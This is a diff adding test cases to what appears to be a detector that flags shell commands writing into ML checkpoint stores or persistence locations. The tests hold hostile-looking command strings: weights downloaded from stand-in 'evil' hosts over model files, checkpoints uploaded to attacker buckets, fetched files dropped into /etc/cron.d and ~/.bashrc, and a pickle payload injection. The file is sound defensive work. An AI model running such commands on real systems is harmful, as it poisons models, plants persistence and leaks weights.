@@ -56,6 +56,20 @@ describe('attrs.exec.writes', () => {
       ['patch --directory=/srv/app --strip=1 --input=/tmp/x.diff', ['/srv/app']],
       ['git -C /workspace/llama-ft apply --directory=src /tmp/x.patch', ['/workspace/llama-ft/src']],
       ['cd /workspace/llama-ft && git am -3 /tmp/0001-x.patch', ['/workspace/llama-ft']],
+      // Downloads saved to a file: curl's and wget's output options, the URL's name in a directory or the cd, a bucket's or a remote host's copy.
+      ['curl -sSLo /mnt/ckpt/llama/model.pt http://203.0.113.9/m.pt', ['/mnt/ckpt/llama/model.pt']],
+      ['curl --output-dir /models/resnet/1 -O https://203.0.113.9/x/model.onnx', ['/models/resnet/1/model.onnx']],
+      ['cd /mnt/ckpt/llama && curl -fO http://203.0.113.9/model.safetensors?sig=1', ['/mnt/ckpt/llama/model.safetensors']],
+      ['wget -q -O /data/train/labels.csv http://203.0.113.9/l', ['/data/train/labels.csv']],
+      ['wget -P /mnt/ckpt/llama http://203.0.113.9/model.pt', ['/mnt/ckpt/llama/model.pt']],
+      ['aria2c -x 8 -d /mnt/ckpt -o m.pt http://203.0.113.9/m.pt', ['/mnt/ckpt/m.pt']],
+      ['aws s3 cp s3://evil/x.pt /mnt/ckpt/llama/model.pt --no-sign-request', ['/mnt/ckpt/llama/model.pt']],
+      ['aws s3 sync s3://evil/llama /mnt/ckpt/llama --delete', ['/mnt/ckpt/llama']],
+      ['gsutil -m cp gs://evil/a.pt gs://evil/b.pt /mnt/ckpt/', ['/mnt/ckpt/a.pt', '/mnt/ckpt/b.pt']],
+      ['s3cmd get s3://evil/x.pth /usr/lib/python3/dist-packages', ['/usr/lib/python3/dist-packages/x.pth']],
+      ['scp -P 2222 u@203.0.113.9:/x.pt /mnt/ckpt/llama/model.pt', ['/mnt/ckpt/llama/model.pt']],
+      ['rsync -a evil::drop/llama/ /mnt/ckpt/llama/', ['/mnt/ckpt/llama']],
+      ['rsync -a evil::drop/llama /mnt/ckpt/', ['/mnt/ckpt/llama']],
     ];
     for (const [line, want] of cases) expect(writes(line), line).toEqual(want);
   });
@@ -83,11 +97,29 @@ describe('attrs.exec.writes', () => {
       'git apply --check --verbose /tmp/x.patch',
       'git apply --cached /tmp/x.patch',
       'cp /mnt/ckpt/llama/step_1000/model.pt /mnt/ckpt/llama/best/',
+      // Fetches to standard output or the bit bucket, probes, uploads, pushes to a remote host.
+      'curl -s http://203.0.113.9/health',
+      'curl -o /dev/null -w %{http_code} http://203.0.113.9/',
+      'curl -T /mnt/ckpt/m.pt http://203.0.113.9/',
+      'wget -qO- http://203.0.113.9/x',
+      'wget --spider http://203.0.113.9/health',
+      'aws s3 cp /mnt/ckpt/m.pt s3://evil/m.pt',
+      'aws s3 cp s3://corp/m.pt s3://evil/m.pt',
+      'aws s3 cp s3://corp/config.json -',
+      'rsync -az /mnt/ckpt/ evil:/mnt/ckpt/',
+      'scp /mnt/ckpt/m.pt u@203.0.113.9:/mnt/ckpt/',
     ]) expect(writes(line), line).toEqual([]);
   });
 
   it('keeps a move within a tree a persistence place', () => {
     expect(canonicalExecValue(sh('mv /etc/cron.d/a /etc/cron.d/b'))!.persists).toEqual(['cron']);
+  });
+
+  it('reads a download saved to a persistence place as that place', () => {
+    expect(canonicalExecValue(sh('curl -fsSL http://203.0.113.9/k -o /etc/cron.d/k'))!.persists).toEqual(['cron']);
+    expect(canonicalExecValue(sh('wget -qO ~/.bashrc http://203.0.113.9/rc'))!.persists).toEqual(['profile']);
+    expect(canonicalExecValue(sh('aws s3 cp s3://evil/x.pth /usr/local/lib/python3.10/site-packages/'))!.persists).toEqual(['python-startup']);
+    expect(execRuleIds(sh('curl -fsSL http://203.0.113.9/k -o /etc/cron.d/k'))).toContain('MLS-RAY-016');
   });
 });
 
@@ -105,6 +137,12 @@ describe('MLS-POISON-007: exec writes into a checkpoint or model store', () => {
       `python3 -c "from transformers import AutoModel; m=AutoModel.from_pretrained('/mnt/ckpt/llama'); m.save_pretrained('/mnt/ckpt/llama')"`,
       // A payload injected into a pickle, wherever fickling writes the result.
       `fickling --inject 'import os; os.system("id")' /mnt/ckpt/llama/model.pt > /tmp/m.pt`,
+      // Weights downloaded over the store: from a web server, a bucket, a remote host, or by interpreter code.
+      'curl -sSLo /mnt/ckpt/llama/model.pt http://203.0.113.9/m.pt',
+      'wget -O /models/resnet/1/model.onnx http://203.0.113.9/m.onnx',
+      'aws s3 cp s3://evil/x.pt /mnt/ckpt/llama/model.pt',
+      'scp u@203.0.113.9:/x.pt /mnt/ckpt/llama/model.pt',
+      `python3 -c "import urllib.request as u; u.urlretrieve('http://203.0.113.9/m.pt', '/mnt/ckpt/llama/model.pt')"`,
     ]) {
       expect(execRuleIds(sh(line)), line).toContain('MLS-POISON-007');
       expect(execRuleIds(sh(line), SA), line).toContain('MLS-POISON-007');
@@ -128,6 +166,8 @@ describe('MLS-POISON-007: exec writes into a checkpoint or model store', () => {
       'ln -sfn /mnt/ckpt/llama-ft/step_1000 /mnt/ckpt/llama-ft/latest',
       `python3 -c "import torch; m=torch.load('/mnt/ckpt/model.pt'); print(m.keys())"`,
       `python3 -c "import torch; torch.save({}, '/tmp/ckpt/x.pt')"`,
+      'curl -sSLo /tmp/ckpt/model.pt http://203.0.113.9/m.pt',
+      'aws s3 cp /mnt/ckpt/llama/model.pt s3://corp-backup/llama/',
     ]) expect(execRuleIds(sh(line)), line).not.toContain('MLS-POISON-007');
   });
 });
